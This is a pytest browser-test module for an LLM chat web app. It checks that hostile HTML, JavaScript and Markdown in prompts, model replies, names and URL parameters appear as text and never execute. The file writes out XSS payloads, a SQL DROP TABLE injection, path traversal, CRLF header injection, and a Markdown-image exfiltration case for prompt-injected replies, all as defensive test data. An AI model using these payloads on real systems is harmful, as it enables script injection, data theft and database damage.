"""HTML and JavaScript typed by a user or written by a model are shown as text and never run,
in a real browser: the prompt, the reply (live while it streams and again from history), the
session title on the Sessions page (also as a search result), the display name in the sidebar,
and the exported file's name. Markdown in replies is rendered (bold, tables, with hostile
cells shown as text) but a ``javascript:`` link is not a working link. A hostile
``?session=`` value (HTML, JavaScript, path traversal, SQL, control characters, a huge one)
reads "Session not found." and changes nothing.

Every check looks for three things: no dialog opened, no injected element exists in the page
(no <script> or <img> coming from user text, no element with an inline event handler from it,
no ``javascript:`` href), and the text itself is visible.
"""

from __future__ import annotations

import re
import urllib.error
import urllib.request
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from sqlalchemy import text

from core import accounts, database
from tests.support import browser as b
from tests.support.app_server import AppServer, app_for
from tests.support.fake_ollama import FakeOllama
from tests.support.state import empty_tables

USER, PASSWORD = "mallory", "hostile but valid passphrase"
NAME = "<img src=x onerror=alert('name')>Mallory"
PROMPT = "<script>alert('prompt')</script> What is <b>EBITDA</b>? <img src=x onerror=alert(1)>"
REPLY = (
    "EBITDA is **earnings before interest**. "
    "<script>window.__pwned='script'</script> "
    "<img src=x onerror=\"window.__pwned='img'\"> "
    "[click me](javascript:window.__pwned='link') "
    '<a href="javascript:alert(1)">raw link</a> '
    "<b>raw bold</b> "
    '<iframe src="javascript:alert(2)"></iframe>'
)

INJECTED_JS = """() => {
  const roots = [...document.querySelectorAll(
    '[data-testid=stMainBlockContainer], [data-testid=stSidebar], [data-testid=stBottom]')];
  const found = [];
  for (const root of roots) {
    for (const el of root.querySelectorAll('script, img[src="x"], iframe:not([data-testid=stCustomComponentV1]), b, object, embed'))
      found.push(el.outerHTML.slice(0, 80));
    for (const el of root.querySelectorAll('*')) {
      for (const attr of el.attributes)
        if (attr.name.startsWith('on')) found.push(el.tagName + ' ' + attr.name);
      const href = el.getAttribute('href') || el.getAttribute('src') || '';
      if (/^\\s*javascript:/i.test(href)) found.push(el.tagName + ' ' + href);
    }
  }
  return {found, pwned: window.__pwned === undefined ? null : String(window.__pwned)};
}"""


@pytest.fixture(scope="module")
def fake() -> Iterator[FakeOllama]:
    with FakeOllama() as server:
        server.script(reply=REPLY, delay=0.01)
        yield server


@pytest.fixture(scope="module")
def app(
    services_env: None, fake: FakeOllama, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[AppServer]:
    with app_for(fake, tmp_path_factory.mktemp("hostile"), DOWNLOAD_LINK_SECONDS="1") as server:
        yield server


@pytest.fixture(scope="module")
def page(app: AppServer, chromium: Any) -> Iterator[Any]:
    empty_tables()
    with database.session_scope() as session:
        accounts.create_user(
            session, username=USER, email="m@example.com", display_name=NAME, password=PASSWORD
        )
    context = b.new_context(chromium, accept_downloads=True)
    tab = b.open_page(context, app.url)
    tab.dialogs = []
    tab.on("dialog", lambda d: (tab.dialogs.append(d.message), d.dismiss()))
    b.log_in(tab, USER, PASSWORD)
    b.ask(tab, PROMPT)
    b.sample_reply_growth(tab)
    yield tab
    context.close()


def assert_nothing_ran(page: Any) -> None:
    result = page.evaluate(INJECTED_JS)
    assert page.dialogs == [], page.dialogs
    assert result == {"found": [], "pwned": None}


def test_prompt_and_streamed_reply_show_html_as_text(page: Any) -> None:
    assert_nothing_ran(page)
    question, answer = b.page_messages(page)
    assert "<script>alert('prompt')</script> What is <b>EBITDA</b>?" in question
    assert "<script>window.__pwned='script'</script>" in answer
    assert '<a href="javascript:alert(1)">raw link</a>' in answer and "<b>raw bold</b>" in answer


def test_markdown_in_a_reply_is_rendered_but_a_javascript_link_is_not_a_link(page: Any) -> None:
    bubble = page.locator(b.MESSAGE).last
    assert bubble.locator("strong").inner_text() == "earnings before interest"
    hrefs = [a.get_attribute("href") or "" for a in bubble.locator("a").all()]
    assert hrefs and not any(re.match(r"\s*javascript:", h, re.I) for h in hrefs), hrefs


def test_history_shows_the_same_text_after_a_reload(page: Any) -> None:
    page.reload()
    b.idle(page)
    page.locator(b.MESSAGE).nth(1).wait_for()
    assert_nothing_ran(page)
    assert "<script>window.__pwned='script'</script>" in b.page_messages(page)[1]


def test_the_display_name_in_the_sidebar_is_text(page: Any) -> None:
    sidebar = page.locator("[data-testid=stSidebar]").inner_text()
    assert f"Signed in as {NAME}" in " ".join(sidebar.split())
    assert_nothing_ran(page)


def test_a_session_titled_with_html_is_listed_and_found_as_text(page: Any) -> None:
    b.go(page, "Sessions")
    assert "<script>alert('prompt')</script> What is <b>EBITDA</b>?" in b.main_text(page)
    assert_nothing_ran(page)
    search = page.get_by_label("Search titles and messages", exact=True)
    search.fill("<b>EBITDA</b>")
    search.press("Enter")
    page.wait_for_timeout(300)
    b.idle(page)
    assert "1 session matches" in b.main_text(page)
    assert "<b>EBITDA</b>" in b.main_text(page)
    assert_nothing_ran(page)


def test_the_export_of_a_session_titled_with_html_has_a_plain_file_name(page: Any) -> None:
    b.go(page, "Sessions")
    b.click_and_settle(page, page.get_by_role("button", name="Manage"))
    button = page.locator("[data-testid=stDownloadButton] button", has_text="Export JSON")
    button.wait_for()
    with page.expect_download() as info:
        button.click()
    name = info.value.suggested_filename
    assert re.fullmatch(r"ledger-[a-z0-9-]+-[0-9a-f]{8}\.json", name), name
    # The file is served at /media/<id>, to anyone with the link (no cookie is asked for):
    # the link dies within DOWNLOAD_LINK_SECONDS (1 s here).
    assert "/media/" in info.value.url and info.value.path().stat().st_size > 0
    page.wait_for_timeout(2500)
    with pytest.raises(urllib.error.HTTPError) as gone:
        urllib.request.urlopen(info.value.url, timeout=5)  # noqa: S310 (the test's own app)
    assert gone.value.code == 404
    assert name.startswith("ledger-script-alert-prompt-script-what-is-b-ebitda-b-img")
    assert_nothing_ran(page)


def test_the_checker_sees_an_injected_element(page: Any) -> None:
    """The check above can fail: an element planted the way an unescaped reply would land
    is found, with its handler."""
    tab = page.context.new_page()
    tab.goto(page.url)
    b.idle(tab)
    tab.evaluate(
        """() => { const p = document.createElement('p');
                   p.innerHTML = '<img src=x onerror="window.__pwned=1">';
                   document.querySelector('[data-testid=stMainBlockContainer]').append(p); }"""
    )
    tab.wait_for_function("() => window.__pwned === 1")
    found = tab.evaluate(INJECTED_JS)
    assert found["pwned"] == "1" and any("onerror" in f for f in found["found"])
    tab.close()


# --- a session id from the URL -------------------------------------------------------------

HOSTILE_SESSIONS = {
    "script": "<script>window.__pwned='session'</script>",
    "img": '"><img src=x onerror="window.__pwned=\'img\'">',
    "traversal": "../../../../etc/passwd",
    "sql": "' OR '1'='1'; DROP TABLE conversation_sessions; --",
    "nul-and-newline": "\x00\r\nSet-Cookie: pwned=1",
    "huge": "9" * 12_000,
}


def _rows() -> tuple[int, int]:
    with database.session_scope() as session:
        found = session.execute(
            text(
                "SELECT (SELECT count(*) FROM conversation_sessions), (SELECT count(*) FROM users)"
            )
        ).one()
    return int(found[0]), int(found[1])


def _tab(page: Any, url: str) -> Any:
    """A second tab with the same login, counting dialogs as the module's page does."""
    tab = page.context.new_page()
    tab.dialogs = []
    tab.on("dialog", lambda d: (tab.dialogs.append(d.message), d.dismiss()))
    tab.goto(url)
    b.idle(tab)
    return tab


@pytest.mark.parametrize("value", HOSTILE_SESSIONS.values(), ids=HOSTILE_SESSIONS.keys())
def test_a_hostile_session_id_in_the_url_is_not_found_and_nothing_runs(
    page: Any, app: AppServer, value: str
) -> None:
    before = _rows()
    tab = _tab(page, f"{app.url}/?session={quote(value, safe='')}")
    try:
        assert b.main_text(tab).count("Session not found.") == 1
        assert tab.locator(b.ERROR).all_inner_texts() == ["Session not found."]
        assert tab.get_by_role("button", name="Start a new chat").count() == 1
        assert tab.locator(b.MESSAGE).count() == 0
        assert_nothing_ran(tab)
        assert not any(c["name"] == "pwned" for c in tab.context.cookies())
    finally:
        tab.close()
    assert _rows() == before  # the SQL in it was never SQL


# --- markdown tables in a reply ------------------------------------------------------------

TABLE_REPLY = (
    "Leverage of the two peers:\n\n"
    "| Company | Net debt / EBITDA | Note |\n"
    "|---|---:|---|\n"
    "| **Acme** | 2.1x | <img src=x onerror=\"window.__pwned='cell'\"> |\n"
    "| <script>window.__pwned='td'</script> | 3.4x | [x](javascript:window.__pwned='a') |\n"
)


def test_a_markdown_table_in_a_reply_renders_as_a_table_with_hostile_cells_as_text(
    page: Any, app: AppServer, fake: FakeOllama
) -> None:
    fake.script(reply=TABLE_REPLY, delay=0.005)
    tab = _tab(page, app.url)
    try:
        b.ask(tab, "Compare leverage, as a table.")
        b.sample_reply_growth(tab)
        table = tab.locator(b.MESSAGE).last.locator("table")
        assert table.count() == 1
        cells = table.evaluate(
            "t => [...t.rows].map(r => [...r.cells].map(c => c.innerText.trim()))"
        )
        assert cells == [
            ["Company", "Net debt / EBITDA", "Note"],
            ["Acme", "2.1x", "<img src=x onerror=\"window.__pwned='cell'\">"],
            ["<script>window.__pwned='td'</script>", "3.4x", "x"],
        ]
        assert table.locator("strong").inner_text() == "Acme"  # markdown in a cell renders
        hrefs = [a.get_attribute("href") or "" for a in table.locator("a").all()]
        assert not any(re.match(r"\s*javascript:", h, re.I) for h in hrefs), hrefs
        assert_nothing_ran(tab)
    finally:
        tab.close()
        fake.script(reply=REPLY, delay=0.01)


class Tracker:
    """A web server that counts the requests a page makes to it (a tracking pixel's host)."""

    def __init__(self) -> None:
        import http.server
        import threading

        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


def test_remote_images_in_a_prompt_or_reply_are_shown_as_text_and_never_fetched(
    page: Any, app: AppServer, fake: FakeOllama
) -> None:
    """A Markdown image in a message would be fetched by every viewer's browser (an admin
    reading the conversation too): a tracking pixel, or where a prompt-injected reply sends
    data. None is fetched, live, from history, or across a chunk boundary."""
    tracker = Tracker()
    fake.script(reply=f"Done ![chart]({tracker.url}/leak.png?secret=ebitda) !", delay=0.005)
    tab = _tab(page, app.url)
    try:
        b.ask(tab, f"Explain ![logo]({tracker.url}/prompt.png) please")
        b.sample_reply_growth(tab)
        tab.reload()
        b.idle(tab)
        tab.locator(b.MESSAGE).last.wait_for()
        question, answer = b.page_messages(tab)[-2:]
        assert f"![logo]({tracker.url}/prompt.png)" in question
        assert f"![chart]({tracker.url}/leak.png?secret=ebitda)" in answer
        tab.wait_for_timeout(500)  # time for any late image request to arrive
        assert tracker.hits == []
        assert tab.locator(f'{b.MESSAGE} img[src^="{tracker.url}"]').count() == 0
    finally:
        tab.close()
        tracker.close()
        fake.script(reply=REPLY, delay=0.01)
